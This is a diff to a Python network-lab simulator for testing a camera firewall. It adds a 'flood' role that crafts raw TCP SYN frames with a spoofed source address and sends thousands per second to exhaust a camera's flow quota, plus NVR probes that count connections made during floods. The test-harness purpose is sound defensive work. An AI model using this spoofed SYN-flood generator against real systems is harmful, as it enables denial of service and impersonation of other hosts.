@@ -14,11 +14,14 @@ Roles:
   listener  a pretend vendor cloud or internet host: accepts TCP and UDP and counts what reaches it;
             optionally keeps trying to open a web page on a target (the internet host poking a camera).
   prober    keeps trying TCP connections to a list of targets (the rogue device).
+  flood     an attacker on the uplink side: bursts of TCP SYNs spoofing another host's address (the NVR's) to a
+            camera port, through a raw packet socket, to exhaust the camera's flow quota (camfw lab --flood).
 """
 
 import argparse
 import json
 import os
+import random
 import select
 import socket
 import struct
@@ -225,12 +228,35 @@ def pull_stream(camera, address, status):
         time.sleep(1.0)
 
 
+def flood_window_open(path):
+    """True while the flood role says a flood is on (its burst and the time its flows may hold the quota after)."""
+    try:
+        with open(path, encoding="utf-8") as f:
+            return json.load(f).get("counters", {}).get("flood_window_open", 0) == 1
+    except (OSError, ValueError):
+        return False
+
+
+def probe_new_connections(camera, address, status, flood_status, interval):
+    """What an NVR does after a restart or a dropped stream: opens a new connection to the camera, again and again.
+    Each attempt is counted as made during a flood or outside one."""
+    while True:
+        during = flood_status and flood_window_open(flood_status)
+        ok = tcp_try(address, 554, 2.0, ("OPTIONS rtsp://%s/ RTSP/1.0\r\nCSeq: 1\r\n\r\n" % address).encode())
+        key = "newconn_%s%s_%s" % (camera, "_flood" if during else "", "ok" if ok else "failed")
+        status.add(key)
+        time.sleep(interval)
+
+
 def run_nvr(args, status):
     spawn(serve_tcp, 80, status, "web")
     for item in args.camera:
         name, address = item.split("=", 1)
         status.set("bytes_from_" + name, 0)
         spawn(pull_stream, name, address, status)
+    for item in args.probe:
+        name, address = item.split("=", 1)
+        spawn(probe_new_connections, name, address, status, args.flood_status, args.interval / 2)
 
 
 # ---- dns/ntp server -----------------------------------------------------------------------------------------
@@ -286,9 +312,73 @@ def run_prober(args, status):
         spawn(poke_loop, address, int(port), status, "poke_" + address.replace(".", "_"), args.interval)
 
 
+# ---- flood (an attacker on the uplink side) -----------------------------------------------------------------
+
+def checksum(data):
+    if len(data) % 2:
+        data += b"\x00"
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def mac_bytes(mac):
+    return bytes(int(part, 16) for part in mac.split(":"))
+
+
+def syn_frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport, seq):
+    """Ethernet + IPv4 + TCP SYN with correct checksums: the frame a real SYN from src_ip would be."""
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
+    pseudo = socket.inet_aton(src_ip) + socket.inet_aton(dst_ip) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), sport, 0x4000, 64, socket.IPPROTO_TCP, 0,
+                     socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
+    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+    return mac_bytes(dst_mac) + mac_bytes(src_mac) + b"\x08\x00" + ip + tcp
+
+
+def run_flood(args, status):
+    target, port = args.target.rsplit(":", 1)
+    port = int(port)
+    with open("/sys/class/net/%s/address" % args.iface, encoding="ascii") as f:
+        own_mac = f.read().strip()
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    sock.bind((args.iface, 0))
+    status.set("flood_window_open", 0)
+    status.set("flood_syns_per_round", args.count)
+    status.flush()
+    time.sleep(args.delay)
+    rounds = 0
+    while True:
+        rounds += 1
+        status.set("flood_window_open", 1)
+        status.set("flood_rounds", rounds)
+        status.flush()
+        started = time.time()
+        rand = random.Random()
+        for i in range(args.count):
+            frame = syn_frame(own_mac, args.dst_mac, args.spoof, target, rand.randint(1024, 65535), port, rand.getrandbits(32))
+            try:
+                sock.send(frame)
+                status.add("flood_syns_sent")
+            except OSError:
+                status.add("flood_send_errors")
+            if i % 100 == 99:
+                # About 2,000 SYNs a second: fast enough to fill any quota, slow enough that the appliance's capture
+                # sees every one (a flood the appliance never saw would prove nothing).
+                time.sleep(max(0.0, started + (i + 1) / args.rate - time.time()))
+        status.set("flood_last_burst_seconds", round(time.time() - started, 2))
+        # The flows a burst made may hold the quota until they time out: the window stays open that long.
+        time.sleep(args.hold)
+        status.set("flood_window_open", 0)
+        status.flush()
+        time.sleep(max(0.0, args.every - args.hold - (time.time() - started)))
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-    p.add_argument("role", choices=["camera", "nvr", "dnsntp", "listener", "prober"])
+    p.add_argument("role", choices=["camera", "nvr", "dnsntp", "listener", "prober", "flood"])
     p.add_argument("--name", required=True)
     p.add_argument("--status", required=True, help="JSON status file, rewritten about once a second")
     p.add_argument("--parent-pid", type=int, default=0, help="exit when this process is gone")
@@ -300,11 +390,22 @@ def main():
     p.add_argument("--tcp", type=int, action="append", default=[])
     p.add_argument("--udp", type=int, action="append", default=[])
     p.add_argument("--poke", action="append", default=[], help="ADDRESS:PORT to keep connecting to")
+    p.add_argument("--probe", action="append", default=[], help="NAME=ADDRESS whose TCP 554 to keep opening new connections to (nvr)")
+    p.add_argument("--flood-status", help="the flood role's status file: probes count attempts made during a flood apart (nvr)")
+    p.add_argument("--target", help="ADDRESS:PORT to flood (flood)")
+    p.add_argument("--spoof", help="source address the SYNs claim (flood)")
+    p.add_argument("--dst-mac", help="MAC the SYNs are sent to: the target's (flood)")
+    p.add_argument("--iface", default="eth0", help="interface to send on (flood)")
+    p.add_argument("--count", type=int, default=5000, help="SYNs per burst (flood)")
+    p.add_argument("--rate", type=float, default=2000.0, help="SYNs per second within a burst (flood)")
+    p.add_argument("--delay", type=float, default=5.0, help="seconds before the first burst (flood)")
+    p.add_argument("--hold", type=float, default=25.0, help="seconds a flood window stays open after its burst (flood)")
+    p.add_argument("--every", type=float, default=45.0, help="seconds from one burst to the next (flood)")
     args = p.parse_args()
 
     status = Status(args.status, args.role, args.name)
     {"camera": run_camera, "nvr": run_nvr, "dnsntp": run_dnsntp,
-     "listener": run_listener, "prober": run_prober}[args.role](args, status)
+     "listener": run_listener, "prober": run_prober}.get(args.role, lambda a, s: spawn(run_flood, a, s))(args, status)
 
     while True:
         status.flush()
